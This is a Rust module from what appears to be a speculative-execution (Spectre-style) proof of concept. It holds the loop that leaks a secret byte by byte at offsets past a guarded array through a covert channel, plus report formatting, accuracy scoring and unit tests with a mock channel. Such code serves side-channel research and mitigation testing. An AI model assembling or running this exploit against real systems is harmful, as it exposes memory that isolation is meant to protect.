// Byte-by-byte extraction of a whole secret.
//

use std::fmt;
use std::io::{self, Write};

use crate::receiver::{extract_byte, CovertChannel};
use crate::tally::{Confidence, ExtractionResult};
use crate::N_VALUES;

/// Result of leaking the byte at one offset.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct ByteReport {
    pub malicious_x: usize,
    pub result: ExtractionResult,
}

impl ByteReport {
    pub fn confidence(&self) -> Confidence {
        self.result.confidence()
    }
}

impl fmt::Display for ByteReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let best = self.result.best;
        let second = self.result.runner_up;
        write!(
            f,
            "Reading at malicious_x = {:#x}... {}: 0x{:02X}='{}' score={}",
            self.malicious_x,
            self.confidence(),
            best.value,
            best.printable(),
            best.score,
        )?;
        if second.score > 0 {
            write!(f, " (second best: 0x{:02X} score={})", second.value, second.score)?;
        }
        Ok(())
    }
}

/// Everything recovered in one pass over the secret.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct LeakReport {
    pub bytes: Vec<ByteReport>,
}

impl LeakReport {
    /// Best guess for every byte, in order.
    pub fn recovered(&self) -> Vec<u8> {
        self.bytes.iter().map(|b| b.result.best.value).collect()
    }

    /// [`Self::recovered`] with non-printable bytes shown as `?`.
    pub fn recovered_printable(&self) -> String {
        self.bytes.iter().map(|b| b.result.best.printable()).collect()
    }

    pub fn successes(&self) -> usize {
        self.bytes
            .iter()
            .filter(|b| b.confidence() == Confidence::Success)
            .count()
    }

    /// Number of bytes whose best guess matches `expected`.
    pub fn correct(&self, expected: &[u8]) -> usize {
        self.recovered()
            .iter()
            .zip(expected)
            .filter(|(got, want)| got == want)
            .count()
    }

    /// Percentage of correctly guessed bytes.
    pub fn accuracy(&self, expected: &[u8]) -> f64 {
        if self.bytes.is_empty() {
            return 0.0;
        }
        self.correct(expected) as f64 / self.bytes.len() as f64 * 100.0
    }
}

/// Accuracy of guessing uniformly at random, in percent.
pub fn random_guess_accuracy() -> f64 {
    100.0 / N_VALUES as f64
}

/// Leak `len` consecutive bytes starting `malicious_x` bytes past the guarded
/// array, writing one report line per byte to `out` as it goes.
///
/// Unclear bytes are reported and skipped over; there are no retries.
pub fn leak_secret<C, W>(
    channel: &mut C,
    malicious_x: usize,
    len: usize,
    trials: usize,
    out: &mut W,
) -> io::Result<LeakReport>
where
    C: CovertChannel + ?Sized,
    W: Write + ?Sized,
{
    writeln!(out, "Reading {} bytes:", len)?;

    let mut report = LeakReport {
        bytes: Vec::with_capacity(len),
    };
    for i in 0..len {
        let x = malicious_x.wrapping_add(i);
        let byte = ByteReport {
            malicious_x: x,
            result: extract_byte(channel, x, trials),
        };
        writeln!(out, "{}", byte)?;
        out.flush()?;
        report.bytes.push(byte);
    }

    log::info!(
        "leaked {} bytes, {} reported as success",
        report.bytes.len(),
        report.successes()
    );
    Ok(report)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tally::{Candidate, Tally};

    fn report(x: usize, best: (u8, u32), second: (u8, u32)) -> ByteReport {
        ByteReport {
            malicious_x: x,
            result: ExtractionResult {
                best: Candidate::new(best.0, best.1),
                runner_up: Candidate::new(second.0, second.1),
            },
        }
    }

    #[test]
    fn line_without_runner_up() {
        let line = report(0x1f40, (b'S', 99), (0xff, 0)).to_string();
        assert_eq!(line, "Reading at malicious_x = 0x1f40... Success: 0x53='S' score=99");
    }

    #[test]
    fn line_with_runner_up() {
        let line = report(0x10, (0x07, 60), (b'q', 31)).to_string();
        assert_eq!(
            line,
            "Reading at malicious_x = 0x10... Unclear: 0x07='?' score=60 (second best: 0x71 score=31)"
        );
    }

    #[test]
    fn accuracy_against_known_secret() {
        let leak = LeakReport {
            bytes: vec![
                report(0, (b'h', 50), (0, 0)),
                report(1, (b'x', 10), (b'i', 9)),
                report(2, (b'!', 70), (b'?', 2)),
            ],
        };
        assert_eq!(leak.recovered(), b"hx!".to_vec());
        assert_eq!(leak.recovered_printable(), "hx!");
        assert_eq!(leak.correct(b"hi!"), 2);
        assert!((leak.accuracy(b"hi!") - 200.0 / 3.0).abs() < 1e-9);
        assert_eq!(leak.successes(), 2);
        assert_eq!(LeakReport::default().accuracy(b"hi!"), 0.0);
    }

    /// Reports a hit for the offset itself, truncated to a byte.
    struct Echo {
        last: usize,
    }

    impl CovertChannel for Echo {
        fn flush_all_partitions(&mut self) {}

        fn train_and_transmit(&mut self, _legal_index: usize, malicious_index: usize) {
            self.last = malicious_index;
        }

        fn measure_and_mark(&mut self, tally: &mut Tally) {
            tally.mark(self.last as u8);
        }
    }

    #[test]
    fn offsets_advance_one_byte_at_a_time() {
        let mut out = Vec::new();
        let leak = leak_secret(&mut Echo { last: 0 }, 0x30, 3, 5, &mut out).unwrap();
        assert_eq!(leak.recovered(), b"012".to_vec());
        assert_eq!(
            leak.bytes.iter().map(|b| b.malicious_x).collect::<Vec<_>>(),
            vec![0x30, 0x31, 0x32]
        );
        let text = String::from_utf8(out).unwrap();
        assert_eq!(text.lines().count(), 4);
        assert!(text.starts_with("Reading 3 bytes:\n"));
    }

    #[test]
    fn offsets_wrap_around_the_address_space() {
        let mut out = Vec::new();
        let start = usize::MAX;
        let leak = leak_secret(&mut Echo { last: 0 }, start, 2, 1, &mut out).unwrap();
        assert_eq!(leak.bytes[1].malicious_x, 0);
    }
}
